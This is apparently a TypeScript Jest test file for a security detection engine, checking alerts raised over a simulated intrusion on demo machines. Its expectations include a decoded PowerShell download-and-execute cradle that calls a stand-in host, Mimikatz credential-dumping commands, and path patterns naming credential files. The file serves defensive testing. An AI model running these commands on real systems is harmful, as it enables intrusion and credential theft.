import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parseTelemetryNdjson, TELEMETRY_KINDS, type TelemetryRecord } from "../telemetry/telemetry.model";
import { detect, type DetectionContext } from "./detections";

/** The fixture story: test/fixtures/protection/telemetry/README.md. */
const FIXTURES = join(__dirname, "../../../../../test/fixtures/protection/telemetry");

const ID = {
  "vm-dev-02": "9f525b04-47c3-487a-9b37-e8d8124d8161",
  "vm-jump-01": "107ec20d-8708-44b3-9c2c-b419dc983ba4",
  "vm-web-prod-01": "3dafd86a-82f7-47d7-8018-63f28fe05d5d",
  "vm-web-prod-02": "9f8b77a8-6ecb-4a6d-8606-b596b41bf3c6",
  "ci-runner-02": "8708e8d1-b175-4ff3-bc87-d6f2d3d84d86",
  "app-euw1-01": "6870430a-d373-49a4-a64f-17fe64a53776",
  "vm-app-prod-01": "70e661f8-81ac-413e-9d5d-30316d57216c",
} as const;

function load(kind: string): TelemetryRecord[] {
  return parseTelemetryNdjson(readFileSync(join(FIXTURES, `${kind}.ndjson`), "utf8")).map((line) => {
    if ("reason" in line) throw new Error(`${kind}.ndjson line ${line.line}: ${line.reason}`);
    return line.record;
  });
}

const byKind = Object.fromEntries(TELEMETRY_KINDS.map((kind) => [kind, load(kind)])) as Record<
  (typeof TELEMETRY_KINDS)[number],
  TelemetryRecord[]
>;
const all = TELEMETRY_KINDS.flatMap((kind) => byKind[kind]);

const WEB_TIER = new Set<string>([ID["vm-web-prod-01"], ID["vm-web-prod-02"]]);
const CONTEXT: DetectionContext = {
  jitLockedPorts: (id) =>
    id === ID["vm-dev-02"]
      ? [
          { port: 3389, protocol: "TCP" },
          { port: 5985, protocol: "TCP" },
        ]
      : [],
  appControlAllows: (id, exe) =>
    WEB_TIER.has(id) ? /^\/(?:usr|bin|sbin|lib|opt\/webshop)\//.test(exe.path) : null,
  isCriticalPath: (_id, path) =>
    /^\/etc\/(?:passwd|shadow|group|sudoers)$|^\/etc\/sudoers\.d\/|\/\.ssh\/authorized_keys$|^\/var\/www\/shop\/public\//.test(
      path,
    ) || path.toLowerCase() === "c:\\windows\\system32\\drivers\\etc\\hosts",
};

const detections = detect(all, CONTEXT);

describe("telemetry fixtures", () => {
  it.each(TELEMETRY_KINDS)("%s.ndjson: every line is a valid record of that kind", (kind) => {
    expect(byKind[kind].length).toBeGreaterThan(0);
    expect(new Set(byKind[kind].map((r) => r.kind))).toEqual(new Set([kind]));
  });

  it("uses unique record ids and the demo machines", () => {
    expect(new Set(all.map((r) => `${r.resourceId}|${r.id}`)).size).toBe(all.length);
    const names = new Map<string, string>(Object.entries(ID).map(([name, id]) => [id, name]));
    for (const r of all) expect(names.get(r.resourceId)).toBe(r.host);
  });

  it("holds the SSH brute force on ci-runner-02: 30 failures from 192.0.2.45 within 6 minutes, then a success", () => {
    const attempts = byKind.logon.filter(
      (r) => r.kind === "logon" && r.resourceId === ID["ci-runner-02"] && r.srcIp === "192.0.2.45",
    );
    const failed = attempts.filter((r) => r.kind === "logon" && !r.success);
    expect(failed).toHaveLength(30);
    const span = Date.parse(failed[failed.length - 1].time) - Date.parse(failed[0].time);
    expect(span).toBeLessThan(6 * 60_000);
    expect(attempts.at(-1)).toMatchObject({ success: true, user: "admin" });
  });

  it("holds the package snapshots", () => {
    const snapshot = (host: keyof typeof ID) => {
      const record = byKind.packages.find((r) => r.resourceId === ID[host]);
      if (record?.kind !== "packages") throw new Error(`no snapshot for ${host}`);
      return record;
    };
    expect(snapshot("ci-runner-02").os).toEqual({ family: "debian", version: "12" });
    expect(snapshot("ci-runner-02").packages).toContainEqual({
      ecosystem: "Debian",
      name: "openssl",
      version: "3.0.11-1~deb12u1",
    });
    expect(snapshot("app-euw1-01").os.family).toBe("alpine");
    expect(snapshot("app-euw1-01").packages).toEqual(
      expect.arrayContaining([
        { ecosystem: "Alpine", name: "busybox", version: "1.36.1-r15" },
        { ecosystem: "npm", name: "lodash", version: "4.17.20" },
      ]),
    );
    expect(snapshot("vm-app-prod-01").packages).toContainEqual({
      ecosystem: "PyPI",
      name: "Django",
      version: "3.2.1",
    });
  });
});

describe("detections over the fixtures", () => {
  it("raises exactly the alerts of the story", () => {
    expect(detections.map((d) => [d.startTime, d.kind, d.severity, d.title])).toEqual([
      [
        "2025-01-15T06:12:00.000Z",
        "brute-force",
        "HIGH",
        "Successful SSH brute force attack on ci-runner-02",
      ],
      [
        "2025-01-15T06:21:14.000Z",
        "critical-file-change",
        "HIGH",
        "SSH authorized keys /home/admin/.ssh/authorized_keys modified on ci-runner-02",
      ],
      [
        "2025-01-15T07:41:01.000Z",
        "jit-port-access",
        "HIGH",
        "Inbound traffic reached JIT-locked port 3389/TCP on vm-dev-02",
      ],
      [
        "2025-01-15T07:44:31.655Z",
        "encoded-powershell",
        "HIGH",
        "Suspicious encoded PowerShell command on vm-dev-02",
      ],
      [
        "2025-01-15T07:46:02.018Z",
        "credential-dumping",
        "HIGH",
        "Credential theft tool Mimikatz ran on vm-dev-02",
      ],
      [
        "2025-01-15T07:47:30.501Z",
        "credential-dumping",
        "HIGH",
        "Registry hive HKLM\\SAM saved to disk on vm-dev-02",
      ],
      [
        "2025-01-15T08:05:00.012Z",
        "encoded-powershell",
        "MEDIUM",
        "Suspicious encoded PowerShell command on vm-jump-01",
      ],
      ["2025-01-15T08:10:00.000Z", "brute-force", "MEDIUM", "Possible RDP brute force attack on vm-jump-01"],
      [
        "2025-01-15T08:31:40.000Z",
        "app-control-violation",
        "MEDIUM",
        "Executable not allowed by application control ran on vm-web-prod-02",
      ],
      [
        "2025-01-15T09:11:48.000Z",
        "critical-file-change",
        "HIGH",
        "Account database /etc/passwd modified on vm-web-prod-01",
      ],
      [
        "2025-01-15T09:11:48.000Z",
        "critical-file-change",
        "HIGH",
        "Account database /etc/group modified on vm-web-prod-01",
      ],
      [
        "2025-01-15T09:20:03.000Z",
        "critical-file-change",
        "MEDIUM",
        "Critical file /var/www/shop/public/js/checkout.js modified on vm-web-prod-01",
      ],
    ]);
  });

  it("reads the brute force on ci-runner-02 as a compromise", () => {
    const d = detections.find((x) => x.kind === "brute-force" && x.resourceId === ID["ci-runner-02"]);
    expect(d).toMatchObject({
      sourceId: `brute-force:${ID["ci-runner-02"]}:192.0.2.45:2025-01-15T06:10:00.000Z`,
      tactics: ["CredentialAccess", "InitialAccess"],
      techniques: ["T1110", "T1110.001", "T1078"],
      endTime: "2025-01-15T06:18:05.000Z",
      evidence: expect.objectContaining({ failedLogons: 30, distinctUsers: 8, inboundFlows: 31 }),
    });
    expect(d?.entities).toEqual([
      { type: "HOST", value: "ci-runner-02" },
      { type: "IP", value: "192.0.2.45" },
      { type: "ACCOUNT", value: "admin" },
    ]);
  });

  it("decodes the download cradle on vm-dev-02", () => {
    const d = detections.find((x) => x.kind === "encoded-powershell" && x.resourceId === ID["vm-dev-02"]);
    expect(d?.evidence).toMatchObject({
      decodedCommand:
        "IEX (New-Object Net.WebClient).DownloadString('http://cdn-update.example.net/ms/upd.ps1')",
      downloadIndicators: ["Net.WebClient", "DownloadString", "IEX"],
    });
    expect(d?.entities).toContainEqual({ type: "DOMAIN", value: "cdn-update.example.net" });
  });

  it("names every Mimikatz command it saw", () => {
    const d = detections.find((x) => x.kind === "credential-dumping" && x.evidence.method === "mimikatz");
    expect(d?.evidence.marker).toBe("privilege::debug, sekurlsa::logonpasswords");
    expect(d?.description).toMatch(
      /^Mimikatz \(privilege::debug, sekurlsa::logonpasswords\) reads credentials/,
    );
  });

  it("groups the three kinsing runs into one alert", () => {
    const d = detections.find((x) => x.kind === "app-control-violation");
    expect(d?.evidence).toMatchObject({
      image: "/tmp/.ICE-unix/kinsing",
      executions: 3,
      users: ["www-data"],
    });
  });

  it("ties the JIT alert to the intruder's session", () => {
    const d = detections.find((x) => x.kind === "jit-port-access");
    expect(d?.evidence).toMatchObject({ sourceIp: "198.51.100.66", allowedFlows: 1 });
    expect(d?.entities).toContainEqual({ type: "ACCOUNT", value: "VM-DEV-02\\contosoadmin" });
  });

  it("gives stable source ids: re-processing, reordering or splitting per file changes nothing", () => {
    const ids = detections.map((d) => d.sourceId);
    expect(new Set(ids).size).toBe(ids.length);
    expect(detect([...all].reverse(), CONTEXT)).toEqual(detections);
    expect(detect([...all, ...all], CONTEXT).map((d) => d.sourceId)).toEqual(ids);
    const perFile = TELEMETRY_KINDS.flatMap((kind) => detect(byKind[kind], CONTEXT)).map((d) => d.sourceId);
    // Each alert is also raised, under the same id, when its file is processed alone.
    expect(ids.filter((id) => !perFile.includes(id))).toEqual([]);
  });

  it("stays quiet on the near misses", () => {
    const hosts = (kind: string) => detections.filter((d) => d.kind === kind).map((d) => d.entities[0].value);
    expect(hosts("brute-force")).not.toContain("vm-web-prod-01"); // 12 slow failures from 192.0.2.99
    expect(detections.filter((d) => d.kind === "brute-force" && d.resourceId === ID["vm-dev-02"])).toEqual(
      [],
    );
    expect(hosts("app-control-violation")).toEqual(["vm-web-prod-02"]); // /tmp/.k on ci-runner-02: no group
    expect(detections.filter((d) => d.kind === "encoded-powershell")).toHaveLength(2); // not "-File … -e prod"
    expect(detections.filter((d) => d.kind === "credential-dumping")).toHaveLength(2); // not tasklist lsass
    expect(detections.some((d) => String(d.evidence.path ?? "").startsWith("/var/log/"))).toBe(false);
  });
});
